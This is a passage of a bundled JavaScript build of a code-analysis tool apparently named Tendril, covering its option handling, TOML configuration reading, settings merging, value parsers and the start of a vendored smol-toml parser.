        for (const line of rest)
            lines.push(`  ${' '.repeat(column)}${line}`);
    }
    return lines.join('\n') + '\n';
}
/**
 * The options one adapter was given: `raw` is an option's text, or whether a switch is on;
 * undefined when it was not given (an empty action input is not given). Values are read and
 * validated by the table's value types, errors naming the flag or the input.
 */
class Given {
    adapter;
    raw;
    base;
    constructor(adapter, raw, base) {
        this.adapter = adapter;
        this.raw = raw;
        this.base = base;
    }
    /** How errors name an option: `--name` or `Input 'name'`. */
    source(name) {
        return this.adapter === 'cli' ? `--${name}` : `Input '${name}'`;
    }
    /** True when the adapter has this option and it was given. */
    has(name) {
        return this.offers(name) && this.raw(name, isSwitch(name)) !== undefined;
    }
    /** One option's value, read and validated; undefined when not given. */
    value(name) {
        if (!this.offers(name))
            throw new Error(`${this.adapter} has no option ${name}`);
        const type = exports.OPTIONS[name].type;
        const raw = this.raw(name, isSwitch(name));
        if (raw === undefined)
            return undefined;
        if (typeof raw === 'boolean')
            return type.switch(raw);
        return type.text(raw, { source: this.source(name), base: this.base });
    }
    /** The value, or the option's built-in default. */
    valueOr(name) {
        return this.value(name) ?? exports.OPTIONS[name].default;
    }
    /**
     * Every setting this adapter was given (options with a field), in table order; the action's
     * `custom` inputs are left to the action. Flags that exclude each other are an error, before
     * any value is read.
     */
    settings() {
        for (const o of exports.OPTION_LIST) {
            const other = this.adapter === 'cli' ? o.cli?.excludes : undefined;
            if (other && this.has(o.name) && this.has(other))
                throw new errors_1.UsageError(`${this.source(o.name)} and ${this.source(other)} exclude each other`);
        }
        const out = {};
        for (const o of exports.OPTION_LIST) {
            if (!o.field || !this.offers(o.name) || (this.adapter === 'action' && o.input?.custom))
                continue;
            const value = this.value(o.name);
            if (value === undefined)
                continue;
            out[o.field] = value;
            if (this.adapter === 'cli')
                for (const field of o.cli?.replaces ?? [])
                    out[field] = [];
        }
        return out;
    }
    offers(name) {
        const o = exports.OPTIONS[name];
        return this.adapter === 'cli' ? o.cli !== undefined : o.input !== undefined;
    }
}
exports.Given = Given;
function isSwitch(name) {
    return exports.OPTIONS[name].type.switch !== undefined;
}


/***/ }),

/***/ 7100:
/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {


var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || (function () {
    var ownKeys = function(o) {
        ownKeys = Object.getOwnPropertyNames || function (o) {
            var ar = [];
            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
            return ar;
        };
        return ownKeys(o);
    };
    return function (mod) {
        if (mod && mod.__esModule) return mod;
        var result = {};
        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
        __setModuleDefault(result, mod);
        return result;
    };
})();
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.SEVERITY_THRESHOLDS = exports.parseThreshold = exports.parseSize = exports.parseShard = exports.parseScope = exports.parseLimit = exports.parseJobs = exports.parseBand = exports.compilePatterns = void 0;
exports.readConfigFile = readConfigFile;
exports.resolveProfile = resolveProfile;
exports.resolveRunSettings = resolveRunSettings;
exports.resolveSettings = resolveSettings;
exports.profileOf = profileOf;
const fs = __importStar(__nccwpck_require__(9896));
const path = __importStar(__nccwpck_require__(6928));
const smol_toml_1 = __nccwpck_require__(7106);
const errors_1 = __nccwpck_require__(3916);
const rules_1 = __nccwpck_require__(5755);
const discover_1 = __nccwpck_require__(4883);
const severity_1 = __nccwpck_require__(2640);
const options_1 = __nccwpck_require__(8031);
var values_1 = __nccwpck_require__(535);
Object.defineProperty(exports, "compilePatterns", ({ enumerable: true, get: function () { return values_1.compilePatterns; } }));
Object.defineProperty(exports, "parseBand", ({ enumerable: true, get: function () { return values_1.parseBand; } }));
Object.defineProperty(exports, "parseJobs", ({ enumerable: true, get: function () { return values_1.parseJobs; } }));
Object.defineProperty(exports, "parseLimit", ({ enumerable: true, get: function () { return values_1.parseLimit; } }));
Object.defineProperty(exports, "parseScope", ({ enumerable: true, get: function () { return values_1.parseScope; } }));
Object.defineProperty(exports, "parseShard", ({ enumerable: true, get: function () { return values_1.parseShard; } }));
Object.defineProperty(exports, "parseSize", ({ enumerable: true, get: function () { return values_1.parseSize; } }));
Object.defineProperty(exports, "parseThreshold", ({ enumerable: true, get: function () { return values_1.parseThreshold; } }));
Object.defineProperty(exports, "SEVERITY_THRESHOLDS", ({ enumerable: true, get: function () { return values_1.SEVERITY_THRESHOLDS; } }));
/**
 * Reads a configuration file: `pyproject.toml` (the `[tool.tendril]` table) or a Tendril TOML file
 * (top level). Each key is an option of src/settings/options.ts; unknown keys and wrong types are
 * errors naming the file and the key.
 */
function readConfigFile(file) {
    let text;
    try {
        text = fs.readFileSync(file, 'utf8');
    }
    catch (error) {
        throw new errors_1.UsageError(`cannot read configuration file ${file} (${error.code ?? 'error'})`);
    }
    let doc;
    try {
        doc = (0, smol_toml_1.parse)(text);
    }
    catch (error) {
        const first = (error instanceof Error ? error.message : String(error)).split('\n')[0];
        throw new errors_1.UsageError(`${file} is not valid TOML: ${first}`);
    }
    let table = doc;
    let prefix = '';
    if (path.basename(file) === 'pyproject.toml') {
        const tool = doc.tool;
        table = tool?.tendril ?? {};
        prefix = 'tool.tendril.';
    }
    const dir = path.dirname(path.resolve(file));
    const input = {};
    for (const [key, value] of Object.entries(table)) {
        const option = options_1.TOML_OPTIONS.find((o) => o.name === key);
        if (!option) {
            throw new errors_1.UsageError(`${file}: unknown key '${prefix}${key}'; accepted keys: ${options_1.TOML_OPTIONS.map((o) => o.name).join(', ')}`);
        }
        const site = {
            file,
            key: `${prefix}${key}`,
            dir,
            wrongType: () => {
                throw new errors_1.UsageError(`${file}: ${prefix}${key} must be ${option.toml.expected}, not ${JSON.stringify(value)}`);
            },
        };
        input[option.field] = option.type.toml(value, site);
    }
    return input;
}
/** Later inputs override earlier ones, key by key. */
function merge(inputs) {
    const merged = {};
    for (const input of inputs) {
        for (const [key, value] of Object.entries(input))
            if (value !== undefined)
                merged[key] = value;
    }
    return merged;
}
/** The rules that run: select (default: every rule enabled by default), less ignore and skips, less security rules below the band. */
function chooseRules(merged) {
    let rules = merged.select ? (0, rules_1.selectRules)(merged.select, 'rule in select') : rules_1.ALL_RULES.filter((rule) => rule.meta.enabledByDefault !== false);
    if (merged.ignore || merged.skips) {
        const ignored = new Set([...(0, rules_1.selectRules)(merged.ignore ?? [], 'rule in ignore'), ...(0, rules_1.selectRules)(merged.skips ?? [], 'rule in skips')]);
        rules = rules.filter((rule) => !ignored.has(rule));
    }
    const minBand = merged.minSecuritySeverity;
    if (minBand) {
        const min = severity_1.BANDS.find((b) => b.name === minBand).min;
        rules = rules.filter((rule) => rule.meta.kind !== 'security' || (rule.meta.securitySeverity ?? 0) >= min);
    }
    return rules;
}
/** The per-directory part: what the options of scope `profile` give (later inputs win). */
function resolveProfile(root, inputs) {
    const merged = merge(inputs);
    // extend-exclude adds to the exclude of the same or any earlier input.
    let exclude = (0, discover_1.defaultExcludes)(root);
    for (const input of inputs) {
        if (input.exclude)
            exclude = [...input.exclude];
        if (input.extendExclude)
            exclude = [...exclude, ...input.extendExclude];
    }
    return {
        rules: chooseRules(merged),
        ruleOptions: merged.ruleOptions ?? {},
        exclude,
        perFileIgnores: (merged.perFileIgnores ?? []).map(({ pattern, selectors }) => ({
            pattern,
            ruleIds: new Set((0, rules_1.selectRules)(selectors).map((rule) => rule.meta.id)),
        })),
        includeSuppressed: merged.includeSuppressed ?? options_1.OPTIONS['include-suppressed'].default,
    };
}
/** The run-wide part: what the options of scope `run` give (later inputs win), with the built-in defaults. */
function resolveRunSettings(base, inputs) {
    const merged = merge(inputs);
    return {
        ...base,
        maxFileSize: merged.maxFileSize ?? options_1.OPTIONS['max-file-size'].default,
        fileTimeout: merged.fileTimeout ?? options_1.OPTIONS['file-timeout'].default,
        cacheDir: merged.cacheDir === false ? undefined : (merged.cacheDir ?? path.join(base.root, options_1.OPTIONS['cache-dir'].default)),
        failOnSecuritySeverity: (merged.failOnSecuritySeverity ?? options_1.OPTIONS['fail-on-security-severity'].default),
        maxMaintainabilityFindings: merged.maxMaintainabilityFindings ?? options_1.OPTIONS['max-maintainability-findings'].default,
        baselineRef: merged.baselineRef,
        baselineSarif: merged.baselineSarif,
        maxNewMaintainabilityFindings: merged.maxNewMaintainabilityFindings ?? options_1.OPTIONS['max-new-maintainability-findings'].default,
        scope: merged.scope ?? options_1.OPTIONS.scope.default,
        shard: merged.shard,
    };
}
/** The run's settings and its own profile, from defaults and `inputs` (a configuration file, then flags or inputs). */
function resolveSettings(base, ...inputs) {
    return { ...resolveRunSettings(base, inputs), ...resolveProfile(base.root, inputs) };
}
/** The profile part of settings (profile 0 of a run). */
function profileOf(settings) {
    const { configFile, rules, ruleOptions, exclude, perFileIgnores, includeSuppressed } = settings;
    return { configFile, rules, ruleOptions, exclude, perFileIgnores, includeSuppressed };
}


/***/ }),

/***/ 535:
/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {


var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || (function () {
    var ownKeys = function(o) {
        ownKeys = Object.getOwnPropertyNames || function (o) {
            var ar = [];
            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
            return ar;
        };
        return ownKeys(o);
    };
    return function (mod) {
        if (mod && mod.__esModule) return mod;
        var result = {};
        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
        __setModuleDefault(result, mod);
        return result;
    };
})();
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.SEVERITY_THRESHOLDS = void 0;
exports.parseThreshold = parseThreshold;
exports.parseLimit = parseLimit;
exports.parseShard = parseShard;
exports.parseScope = parseScope;
exports.parseSize = parseSize;
exports.parseJobs = parseJobs;
exports.parseBand = parseBand;
exports.parseChoice = parseChoice;
exports.parseList = parseList;
exports.existingPath = existingPath;
exports.compilePatterns = compilePatterns;
exports.isStringList = isStringList;
exports.checkSelectors = checkSelectors;
exports.tomlSelectors = tomlSelectors;
exports.tomlInteger = tomlInteger;
exports.tomlText = tomlText;
exports.tomlBoolean = tomlBoolean;
exports.tomlPatterns = tomlPatterns;
exports.tomlPerFileIgnores = tomlPerFileIgnores;
exports.tomlCacheDir = tomlCacheDir;
exports.tomlRuleOptions = tomlRuleOptions;
const fs = __importStar(__nccwpck_require__(9896));
const path = __importStar(__nccwpck_require__(6928));
const errors_1 = __nccwpck_require__(3916);
const rules_1 = __nccwpck_require__(5755);
const glob_1 = __nccwpck_require__(3854);
const severity_1 = __nccwpck_require__(2640);
/**
 * The value types of the options (src/settings/options.ts): readers of text (a flag or an action
 * input, named by `source` in errors) and of TOML values (named by file and key).
 */
exports.SEVERITY_THRESHOLDS = [...severity_1.BANDS.map((b) => b.name), 'none'];
function parseThreshold(value, source) {
    const v = value.trim().toLowerCase();
    if (exports.SEVERITY_THRESHOLDS.includes(v))
        return v;
    throw new errors_1.UsageError(`${source}: '${value}' is not a valid value; accepted: ${exports.SEVERITY_THRESHOLDS.join(', ')}`);
}
function parseLimit(value, source) {
    const v = value.trim();
    if (/^(-1|\d+)$/.test(v))
        return Number(v);
    throw new errors_1.UsageError(`${source}: '${value}' is not a valid value; accepted: a whole number >= 0, or -1 for no limit`);
}
/** `K/N` with 1 <= K <= N. */
function parseShard(value, source) {
    const m = /^\s*([1-9]\d*)\s*\/\s*([1-9]\d*)\s*$/.exec(value);
    if (m && Number(m[1]) <= Number(m[2]))
        return { index: Number(m[1]), count: Number(m[2]) };
    throw new errors_1.UsageError(`${source}: '${value}' is not a valid value; accepted: K/N with 1 <= K <= N, such as 1/4`);
}
function parseScope(value, source) {
    const v = value.trim().toLowerCase();
    if (v === 'all' || v === 'changed')
        return v;
    throw new errors_1.UsageError(`${source}: '${value}' is not a valid value; accepted: all, changed`);
}
/** A size in bytes: a whole number, optionally with K, M or G (powers of 1024). */
function parseSize(value, source) {
    const m = /^\s*([1-9]\d*)\s*(?:([kmg])i?)?b?\s*$/i.exec(value);
    if (m)
        return Number(m[1]) * 1024 ** ['', 'k', 'm', 'g'].indexOf((m[2] ?? '').toLowerCase());
    throw new errors_1.UsageError(`${source}: '${value}' is not a valid value; accepted: a whole number of bytes >= 1, optionally with K, M or G (such as 10M)`);
}
function parseJobs(value, source) {
    const v = value.trim();
    if (/^[1-9]\d*$/.test(v))
        return Number(v);
    throw new errors_1.UsageError(`${source}: '${value}' is not a valid value; accepted: a whole number >= 1`);
}
function parseBand(value, source) {
    const v = value.trim().toLowerCase();
    const band = severity_1.BANDS.find((b) => b.name === v);
    if (band)
        return band.name;
    throw new errors_1.UsageError(`${source}: '${value}' is not a valid value; accepted: ${severity_1.BANDS.map((b) => b.name).join(', ')}`);
}
/** One of `accepted`, spelled exactly (`--format`). */
function parseChoice(accepted) {
    return (value, source) => {
        if (accepted.includes(value))
            return value;
        throw new errors_1.UsageError(`${source}: '${value}' is not valid; accepted: ${accepted.join(', ')}`);
    };
}
/** A comma-separated list (flags): items trimmed, empty ones dropped. */
function parseList(value) {
    return value
        .split(',')
        .map((s) => s.trim())
        .filter(Boolean);
}
/** A path that must exist, relative to `base`; the text is kept as given. */
function existingPath(value, source, base) {
    if (!value || !fs.existsSync(path.resolve(base, value)))
        throw new errors_1.UsageError(`${source}: ${value} does not exist`);
    return value;
}
/** Patterns relative to `base` (the configuration file's directory, or the current directory for flags). */
function compilePatterns(globs, base) {
    return globs.map((g) => (0, glob_1.compilePattern)(g, base)).filter((p) => p !== undefined);
}
function isStringList(value) {
    return Array.isArray(value) && value.every((v) => typeof v === 'string');
}
function isTable(value) {
    return typeof value === 'object' && value !== null && !Array.isArray(value);
}
/** Unknown rule selectors in a configuration file: an error naming the file and the key. */
function checkSelectors(file, selectors, key) {
    try {
        (0, rules_1.selectRules)(selectors, `rule in ${key}`);
    }
    catch (error) {
        throw new errors_1.UsageError(`${file}: ${error.message}`);
    }
}
/** A list of rule ids, aliases or kinds, each known. */
function tomlSelectors(value, site) {
    if (!isStringList(value))
        site.wrongType();
    checkSelectors(site.file, value, site.key);
    return value;
}
function tomlInteger(min) {
    return (value, site) => (typeof value === 'number' && Number.isInteger(value) && value >= min ? value : site.wrongType());
}
/** A string read with a text parser, whose errors name the file and the key. */
function tomlText(parse) {
    return (value, site) => (typeof value === 'string' ? parse(value, `${site.file}: ${site.key}`) : site.wrongType());
}
function tomlBoolean(value, site) {
    return typeof value === 'boolean' ? value : site.wrongType();
}
function tomlPatterns(value, site) {
    return isStringList(value) ? compilePatterns(value, site.dir) : site.wrongType();
}
/** `[per-file-ignores]`: glob = [rule ids, aliases or kinds]. */
function tomlPerFileIgnores(value, site) {
    if (!isTable(value))
        site.wrongType();
    const out = [];
    for (const [glob, selectors] of Object.entries(value)) {
        const key = `${site.key}."${glob}"`;
        if (!isStringList(selectors)) {
            throw new errors_1.UsageError(`${site.file}: ${key} must be a list of rule ids, aliases or kinds, not ${JSON.stringify(selectors)}`);
        }
        checkSelectors(site.file, selectors, key);
        const pattern = (0, glob_1.compilePattern)(glob, site.dir);
        if (pattern)
            out.push({ pattern, selectors });
    }
    return out;
}
/** A directory relative to the configuration file, or false. */
function tomlCacheDir(value, site) {
    if (value === false)
        return false;
    if (typeof value === 'string' && value.trim() !== '')
        return path.resolve(site.dir, value);
    return site.wrongType();
}
function describeSpec(spec) {
    switch (spec.type) {
        case 'integer':
            return `a whole number${spec.min !== undefined ? ` >= ${spec.min}` : ''}`;
        case 'boolean':
            return 'true or false';
        case 'string':
            return spec.values ? `one of ${spec.values.join(', ')}` : 'a string';
        case 'string-list':
            return 'a list of strings';
    }
}
function validOption(spec, value) {
    switch (spec.type) {
        case 'integer':
            return typeof value === 'number' && Number.isInteger(value) && (spec.min === undefined || value >= spec.min);
        case 'boolean':
            return typeof value === 'boolean';
        case 'string':
            return typeof value === 'string' && (!spec.values || spec.values.includes(value));
        case 'string-list':
            return isStringList(value);
    }
}
/** `[rules.<rule-id>]` tables: known rules, known options, right types. */
function tomlRuleOptions(value, site, expected) {
    const { file, key } = site;
    if (!isTable(value))
        throw new errors_1.UsageError(`${file}: ${key} must be ${expected}`);
    const out = {};
    for (const [ruleId, table] of Object.entries(value)) {
        const rule = rules_1.ALL_RULES.find((r) => r.meta.id === ruleId);
        if (!rule)
            throw new errors_1.UsageError(`${file}: ${key}.${ruleId}: no rule has this id (see 'tendril rules')`);
        const specs = rule.meta.options ?? {};
        const accepted = Object.keys(specs);
        if (!isTable(table)) {
            throw new errors_1.UsageError(`${file}: ${key}.${ruleId} must be a table of options (${accepted.join(', ') || 'this rule has none'})`);
        }
        out[ruleId] = {};
        for (const [name, optionValue] of Object.entries(table)) {
            const spec = specs[name];
            if (!spec) {
                throw new errors_1.UsageError(`${file}: unknown key '${key}.${ruleId}.${name}'; ${accepted.length ? `accepted keys: ${accepted.join(', ')}` : 'this rule has no options'}`);
            }
            if (!validOption(spec, optionValue)) {
                throw new errors_1.UsageError(`${file}: ${key}.${ruleId}.${name} must be ${describeSpec(spec)}, not ${JSON.stringify(optionValue)}`);
            }
            out[ruleId][name] = optionValue;
        }
    }
    return out;
}


/***/ }),

/***/ 311:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.VERSION = void 0;
/** Tendril's version, kept equal to package.json's (a test checks). */
exports.VERSION = '0.1.0';


/***/ }),

/***/ 5317:
/***/ ((module) => {

module.exports = require("child_process");

/***/ }),

/***/ 6982:
/***/ ((module) => {

module.exports = require("crypto");

/***/ }),

/***/ 9896:
/***/ ((module) => {

module.exports = require("fs");

/***/ }),

/***/ 1943:
/***/ ((module) => {

module.exports = require("fs/promises");

/***/ }),

/***/ 857:
/***/ ((module) => {

module.exports = require("os");

/***/ }),

/***/ 6928:
/***/ ((module) => {

module.exports = require("path");

/***/ }),

/***/ 7016:
/***/ ((module) => {

module.exports = require("url");

/***/ }),

/***/ 9023:
/***/ ((module) => {

module.exports = require("util");

/***/ }),

/***/ 1493:
/***/ ((module) => {

module.exports = require("v8");

/***/ }),

/***/ 8167:
/***/ ((module) => {

module.exports = require("worker_threads");

/***/ }),

/***/ 3106:
/***/ ((module) => {

module.exports = require("zlib");

/***/ }),

/***/ 7106:
/***/ ((__unused_webpack_module, exports) => {

/*!
* Copyright (c) Squirrel Chat et al., All rights reserved.
* SPDX-License-Identifier: BSD-3-Clause
*
* Redistribution and use in source and binary forms, with or without
* modification, are permitted provided that the following conditions are met:
*
* 1. Redistributions of source code must retain the above copyright notice, this
*    list of conditions and the following disclaimer.
* 2. Redistributions in binary form must reproduce the above copyright notice,
*    this list of conditions and the following disclaimer in the
*    documentation and/or other materials provided with the distribution.
* 3. Neither the name of the copyright holder nor the names of its contributors
*    may be used to endorse or promote products derived from this software without
*    specific prior written permission.
*
* THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
* ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
* WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
* DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
* FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
* DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
* SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
* CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
* OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
* OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
*/

Object.defineProperties(exports, {
	__esModule: { value: true },
	[Symbol.toStringTag]: { value: "Module" }
});
//#region src/error.ts
function getLineColFromPtr(string, ptr) {
	let lines = string.slice(0, ptr).split(/\r?\n/);
	return [lines.length, lines.pop().length + 1];
}
function makeCodeBlock(string, line, column) {
	let lines = string.split(/\r?\n/);
	let codeblock = "";
	let numberLen = (Math.log10(line + 1) | 0) + 1;
	for (let i = line - 1; i <= line + 1; i++) {
		let l = lines[i - 1];
		if (!l) continue;
		codeblock += i.toString().padEnd(numberLen, " ");
		codeblock += ":  ";
		codeblock += l;
		codeblock += "\n";
		if (i === line) {
			codeblock += " ".repeat(numberLen + column + 2);
			codeblock += "^\n";
		}
	}
	return codeblock;
}
var TomlError = class TomlError extends Error {
	line;
	column;
	codeblock;
	constructor(message, options) {
		const [line, column] = getLineColFromPtr(options.toml, options.ptr);
		const codeblock = makeCodeBlock(options.toml, line, column);
		super(`Invalid TOML document: ${message}\n\n${codeblock}`, options);
		this.line = line;
		this.column = column;
		this.codeblock = codeblock;
	}
	/** @internal */
	static x(message, ctx, ptr) {
		throw new TomlError(message, {
			toml: ctx.s,
			ptr: ptr ?? ctx.p
		});
	}
};
//#endregion
//#region src/primitive.ts
/** @internal */
function parseString(ctx) {
	let startPtr = ctx.p;
	let c = ctx.s.charCodeAt(ctx.p++);
	let first = c;
	let isLiteral = c === 39;
	let isMultiline = c === ctx.s.charCodeAt(ctx.p) && c === ctx.s.charCodeAt(ctx.p + 1);
	if (isMultiline) {
		if ((c = ctx.s.charCodeAt(ctx.p += 2)) === 10) ctx.p++;
		else if (c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10) ctx.p += 2;
	}
	let parsed = "";
	let sliceStart = ctx.p;
	let state = 0;
	for (; ctx.p < ctx.s.length; ctx.p++) {
		c = ctx.s.charCodeAt(ctx.p);
		if (isMultiline && (c === 10 || c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10)) state = state && 3;
		else if (c < 32 && c !== 9 || c === 127) TomlError.x("control characters are not allowed in strings", ctx);
		else if ((!state || state === 3) && c === first && (!isMultiline || ctx.s.charCodeAt(ctx.p + 1) === first && ctx.s.charCodeAt(ctx.p + 2) === first)) {
			if (isMultiline) {
				if (ctx.s.charCodeAt(ctx.p + 3) === first) ctx.p++;
				if (ctx.s.charCodeAt(ctx.p + 3) === first) ctx.p++;
			}
			if (!state) {
				let s = ctx.s.slice(sliceStart, ctx.p);
				parsed = parsed ? parsed + s : s;
			}
			ctx.p += isMultiline ? 3 : 1;
			return parsed;
		} else if (!state) {
			if (!isLiteral && c === 92) {
				parsed += ctx.s.slice(sliceStart, sliceStart = ctx.p);
				state = 1;
			}
		} else if (state === 1) {
			if (c === 120 || c === 117 || c === 85) {
				let errPtr = ctx.p++ - 1;
				let value = 0;
				let len = c === 120 ? 2 : c === 117 ? 4 : 8;
				for (let j = 0; j < len; j++, ctx.p++) {
					let hex = ctx.s.charCodeAt(ctx.p);
					let digit = hex >= 48 && hex <= 57 ? hex - 48 : hex >= 65 && hex <= 70 ? hex - 65 + 10 : hex >= 97 && hex <= 102 ? hex - 97 + 10 : -1;
					if (digit < 0) TomlError.x("invalid non-hex character in unicode escape", ctx);
					value = value << 4 | digit;
				}
				if (value < 0 || value > 1114111 || value >= 55296 && value <= 57343) TomlError.x("invalid unicode escape", ctx, errPtr);
				parsed += String.fromCodePoint(value);
				sliceStart = ctx.p--;
				state = 0;
			} else if (isMultiline && (c === 32 || c === 9)) state = 2;
			else {
				if (c === 98) parsed += "\b";
				else if (c === 116) parsed += "	";
				else if (c === 110) parsed += "\n";
				else if (c === 102) parsed += "\f";
				else if (c === 114) parsed += "\r";
				else if (c === 101) parsed += "\x1B";
				else if (c === 34) parsed += "\"";
				else if (c === 92) parsed += "\\";
				else TomlError.x("unrecognised escape sequence", ctx);
				sliceStart = ctx.p + 1;
				state = 0;
			}
		} else if (c !== 32 && c !== 9) {
			if (state === 2) TomlError.x("invalid escape: only line-ending whitespace may be escaped", ctx, sliceStart);
			state = !isLiteral && c === 92 ? 1 : 0;
			sliceStart = ctx.p;
		}
	}
	TomlError.x("unfinished string", ctx, startPtr);
}
//#endregion
//#region src/date.ts
let DATE_TIME_RE = /^(\d{4}-\d{2}-\d{2})?[Tt ]?(?:(\d{2}):\d{2}(?::\d{2}(?:\.\d+)?)?)?(Z|z|[-+]\d{2}:\d{2})?$/i;
var TomlDate = class TomlDate extends Date {
	#hasDate = false;
	#hasTime = false;
	#offset = null;
	constructor(date, fasttype, unsafeDelim) {
		let hasDate = true;
		let hasTime = true;
		let offset = "Z";
		let c;
		if (typeof date === "string") {
			if (fasttype) prep: {
				if (fasttype < 3) {
					if (+date.slice(11, 13) > 23) {
						date = "";
						break prep;
					}
					if (fasttype === 2) {
						offset = null;
						date += "Z";
					} else if ((c = date.charCodeAt(date.length - 1)) !== 90 && c !== 122) offset = date.slice(date.length - 6);
					if (unsafeDelim) date = date.slice(0, 10) + "T" + date.slice(11);
				} else if (fasttype === 4) date = +date.slice(0, 2) > 23 ? "" : `0000-01-01T${date}Z`;
				hasDate = fasttype !== 4;
				hasTime = fasttype !== 3;
			}
			else {
				let match = date.match(DATE_TIME_RE);
				if (match) {
					if (!match[1]) {
						hasDate = false;
						date = `0000-01-01T${date}`;
					}
					hasTime = !!match[2];
					hasTime && date[10] === " " && (date = date.replace(" ", "T"));
					if (match[2] && +match[2] > 23) date = "";
					else {
						offset = match[3] || null;
						if (!offset && hasTime) date += "Z";
					}
				} else date = "";
			}
		}
		super(date);
		if (!isNaN(this.getTime())) {
			this.#hasDate = hasDate;
			this.#hasTime = hasTime;
			this.#offset = offset;
		}
	}
	isDateTime() {
		return this.#hasDate && this.#hasTime;
	}
	isLocal() {
		return !this.#hasDate || !this.#hasTime || !this.#offset;
	}
	isDate() {
		return this.#hasDate && !this.#hasTime;
	}
	isTime() {
		return this.#hasTime && !this.#hasDate;
	}
	isValid() {
		return this.#hasDate || this.#hasTime;
	}
	toISOString() {
		let iso = super.toISOString();
		if (this.isDate()) return iso.slice(0, 10);
		if (this.isTime()) return iso.slice(11, 23);
		if (this.#offset === null) return iso.slice(0, -1);
		if (this.#offset === "Z" || this.#offset === "z") return iso;
		let offset = +this.#offset.slice(1, 3) * 60 + +this.#offset.slice(4, 6);
		offset = this.#offset[0] === "-" ? offset : -offset;
		return (/* @__PURE__ */ new Date(this.getTime() - offset * 6e4)).toISOString().slice(0, -1) + this.#offset;
	}
	static wrapAsOffsetDateTime(jsDate, offset = "Z") {
		let date = new TomlDate(jsDate);
		date.#offset = offset;
		return date;
	}
	static wrapAsLocalDateTime(jsDate) {
		let date = new TomlDate(jsDate);
		date.#offset = null;
		return date;
	}
	static wrapAsLocalDate(jsDate) {
		let date = new TomlDate(jsDate);
		date.#hasTime = false;
		date.#offset = null;
		return date;
	}
	static wrapAsLocalTime(jsDate) {
		let date = new TomlDate(jsDate);
		date.#hasDate = false;
		date.#offset = null;
		return date;
	}
};
//#endregion
//#region src/extract.ts
function isDigit(char, base = 10) {
	return base === 16 ? char > 47 && char < 58 || char > 64 && char < 71 || char > 96 && char < 103 : char > 47 && char < 48 + base;
}
function isEndOfValue(char, delim) {
	return char === 32 || char === 9 || char === 10 || char === 13 || delim && (char === delim || char === 44) || char === 35;
}
/** @internal */
function extractValue(ctx, end) {
	let errPtr = ctx.p;
	let c = ctx.s.charCodeAt(ctx.p);
	if (c === 91 || c === 123) {
		ctx.d-- || TomlError.x("document contains excessively nested structures. aborting.", ctx);
		let value = c === 91 ? parseArray(ctx) : parseInlineTable(ctx);
		ctx.d++;
		return value;
	}
	if (c === 34 || c === 39) return parseString(ctx);
	if (c === 116) {
		if (ctx.s.charCodeAt(++ctx.p) !== 114 || ctx.s.charCodeAt(++ctx.p) !== 117 || ctx.s.charCodeAt(++ctx.p) !== 101) TomlError.x("invalid value", ctx, errPtr);
		return ctx.p++, true;
	}
	if (c === 102) {
		if (ctx.s.charCodeAt(++ctx.p) !== 97 || ctx.s.charCodeAt(++ctx.p) !== 108 || ctx.s.charCodeAt(++ctx.p) !== 115 || ctx.s.charCodeAt(++ctx.p) !== 101) TomlError.x("invalid value", ctx, errPtr);
		return ctx.p++, false;
	}
	if (c === 43 || c === 45) return parseNumber(ctx, ctx.p, ctx.s.charCodeAt(++ctx.p), 44 - c, end);
	if (ctx.s.charCodeAt(ctx.p + 4) === 45 && ctx.s.charCodeAt(ctx.p + 7) === 45) return parseDate(ctx, c, end);
	if (ctx.s.charCodeAt(ctx.p + 2) === 58) return parseTime(ctx, c, end);
